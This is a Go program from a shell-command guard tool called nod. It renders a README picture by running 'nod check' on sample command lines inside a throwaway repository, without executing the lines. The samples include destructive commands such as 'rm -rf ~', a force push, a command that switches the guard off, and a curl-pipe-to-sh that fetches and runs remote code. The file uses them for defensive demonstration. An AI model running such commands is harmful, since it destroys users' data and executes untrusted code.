// Command picture draws docs/nod-check.svg, the picture of README.md: it runs
// the real `nod check` on a few lines, in a repository that it makes and throws
// away, and draws what a terminal would show. Nothing of the lines is run.
//
//	go run ./internal/picture
//
// TestThePictureIsWhatNodPrints fails when the file and nod differ.
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/nodgate/nod/internal/cli"
)

// lines are what the picture asks about. A reason that names a whole path would
// differ from machine to machine, so none of them has such a reason.
func lines() []string {
	return []string{
		`git status --short | head -5`,
		`rm -rf dist`,
		`rm -rf ~`,
		`timeout 9 sh -c "cd ~ && rm -rf ."`,
		`nod mode off`,
		`git push --force`,
		`curl -s https://get.example/x | sh`,
	}
}

func main() {
	out := flag.String("o", "docs/nod-check.svg", "the file to write")
	flag.Parse()
	picture, err := draw(context.Background())
	if err == nil {
		err = os.WriteFile(*out, picture, 0o644)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "picture:", err)
		os.Exit(1)
	}
}

// draw makes the repository, asks nod about each line there and draws the answers.
func draw(ctx context.Context) ([]byte, error) {
	home, err := os.MkdirTemp("", "nod-picture-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(home)
	repository, err := shop(ctx, home)
	if err != nil {
		return nil, err
	}
	var screen []string
	for _, line := range lines() {
		answer, err := check(ctx, home, repository, line)
		if err != nil {
			return nil, err
		}
		screen = append(screen, "$ nod check -- "+quote(line), answer, "")
	}
	return svg(screen[:len(screen)-1]), nil
}

// shop is a small repository below home: a source that git has, and an ignored
// directory that a build makes again.
func shop(ctx context.Context, home string) (string, error) {
	dir := filepath.Join(home, "shop")
	for name, text := range map[string]string{".gitignore": "dist/\n", "src/cart.js": "let cart\n",
		"dist/cart.js": "let c\n"} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			return "", err
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			return "", err
		}
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", ".gitignore", "src"}} {
		cmd := exec.CommandContext(ctx, "git", args...)
		cmd.Dir = dir
		cmd.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "GIT_CONFIG_NOSYSTEM=1"}
		if out, err := cmd.CombinedOutput(); err != nil {
			return "", fmt.Errorf("git %s: %w: %s", strings.Join(args, " "), err, out)
		}
	}
	return dir, nil
}

// check is what `nod check -- LINE` prints on a terminal for a person without
// settings. Managed settings of this machine would count.
func check(ctx context.Context, home, dir, line string) (string, error) {
	var out, errs bytes.Buffer
	p := &cli.Process{
		Stdout: &out, Stderr: &errs, Dir: dir, Terminal: true,
		Environ: []string{"HOME=" + home, "PATH=/usr/bin:/bin"},
	}
	code := cli.Main(ctx, p, []string{"check", "--", line})
	if code != cli.ExitOK && code != cli.ExitAsk && code != cli.ExitDeny || errs.Len() > 0 {
		return "", fmt.Errorf("nod check -- %s: exit %d: %s", line, code, errs.String())
	}
	if strings.Contains(out.String(), home) {
		return "", fmt.Errorf("nod check -- %s names a directory of this machine: %s", line, out.String())
	}
	return strings.TrimSuffix(out.String(), "\n"), nil
}

// quote writes a line as one word of a shell.
func quote(line string) string { return "'" + strings.ReplaceAll(line, "'", `'\''`) + "'" }
